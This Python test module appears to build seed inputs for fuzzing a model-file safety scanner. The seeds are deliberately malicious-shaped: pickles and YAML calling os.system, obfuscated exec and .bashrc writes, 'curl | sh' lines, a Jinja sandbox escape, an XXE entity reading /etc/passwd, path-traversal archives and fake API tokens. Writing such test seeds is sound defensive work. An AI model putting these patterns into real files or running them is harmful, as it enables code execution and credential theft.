"""Well-formed beginnings for the safety checks: what each looks into, and attacks in the shapes it knows."""

from __future__ import annotations

import io
import json
import struct
import zlib

from tests.build import pickles as made
from tests.build.seeds import SEEDS, Seed
from tests.build.zips import zipped

TEMPLATE = (
    "{%- set ns = namespace(n='__cl' ~ 'ass__') -%}{% for m in messages %}{% if m.role == 'user' %}"
    "{{ m['content'] | trim | replace('a', 'b') }}{{ '%s' % m.x }}{{ ['a','b']|join('')[::-1] }}{% else %}"
    "{{ ''[ns.n] }}{{ range(2 ** 3) }}{% endif %}{% endfor %}{# note #}{% raw %}{{ {% endraw %}"
)
SOURCE = (
    "import os, base64 as b\nfrom subprocess import run as r\nX = 'ec' + 'ho'\n"
    "class M:\n    def __init__(self, p=open('x')):\n        getattr(os, 'sys' 'tem')(f'{X} {p}')\n"
    "def f():\n    return __import__('socket').socket()\nf()\nexec(b.b64decode('eA=='))\n"
    "open('/root/.bashrc', 'a').write('x'.join(['a', chr(98)]))\nif __name__ == '__main__':\n    r(['ls'])\n"
)
NOTEBOOK = json.dumps(
    {"cells": [{"cell_type": "code", "source": ["!curl x | sh\n", "import os\n"]}], "nbformat": 4}
)
KERAS = json.dumps(
    {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"filepath": "/etc/passwd", "function": {"class_name": "__lambda__", "config": {}}},
        "auto_map": {"AutoModel": "other/repo--modeling.M"},
        "_target_": "os.system",
        "chat_template": [{"template": "{{ ''.__class__ }}"}],
    }
)
_HEAD = b"X\n" + struct.pack(">iii", 2, 0x30600, 0x20300)
R_DATA = _HEAD + struct.pack(">iii", 19, 2, 0x409) + b"\0\0\0\x01a" + struct.pack(">ii", 5, 254) * 2
LZ4 = b"\x04\x22\x4d\x18\x60\x40\x82" + struct.pack("<I", 5) + b"\x40abcd" + bytes(4)
PICKLES = (
    made.command(0),
    made.command(4),
    made.stream(made.EMPTY_LIST + b"q\x00" + b"(" + b"h\x00" * 4 + b"e", 2),
    made.stream(
        made.call(made.name("torch._utils", "_rebuild_tensor_v2"), made.text("x")) + b"}b", framed=True
    ),
    b"(S'a'\nI1\nios\nsystem\np0\ng0\n0(lp1\n.",
    made.stream(made.text("a") + b"Q" + b"\x82\x01" + b"\x86" + b"\x8b\x02\0\0\0\0\1" + b"a"),
)

# The checks by module, each with the names that it is asked for and the beginnings that reach into it.
SAFETY_SEEDS: tuple[Seed, ...] = (
    *((f"model.{suffix}", data) for data in PICKLES for suffix in ("pkl", "txt")),
    ("a.zip", zipped({"a/data.pkl": made.command(), "../b.py": SOURCE.encode(), "c.zip": zipped({"x": b"y"})})),
    ("a.lz4", LZ4),
    ("a.z", zlib.compress(made.command()) + zlib.compress(b"more")),
    ("chat_template.jinja", TEMPLATE.encode()),
    ("config.json", KERAS.encode()),
    ("a.yaml", b"a: !!python/object/apply:os.system ['x']\n_target_: torch.nn.Linear\n"),
    ("modeling_x.py", SOURCE.encode()),
    ("x.ipynb", NOTEBOOK.encode()),
    ("requirements.txt", b"--index-url http://192.0.2.1/x\nfoo @ git+https://example.org/x\nbar==1\n"),
    ("x.pth", b"import os; os.system('x')\nfolder\n"),
    ("m.rds", R_DATA),
    ("x.xml", b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><xsl:include href='y'/><script>"),
    ("x.sh", b"#!/bin/sh\ncurl http://x | sh\n"),
    ("a.dll", b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0"),
    ("m.h5", b"\x89HDF\r\n\x1a\n" + b"\x01\x08\x40" + b"\x01a\x08\0\0f.h5\0/x\0" + KERAS.encode()),
    ("notes.txt", b"hf_" + b"a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7" + b" AKIAIOSFODNN7QWERTY "),
)  # fmt: skip


def tarred(members: dict[str, bytes]) -> bytes:
    import tarfile

    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


EVERY_SEED: tuple[Seed, ...] = (*SAFETY_SEEDS, *SEEDS, ("b.tar", tarred({"../x" * 40: b"a", "b": b"c"})))
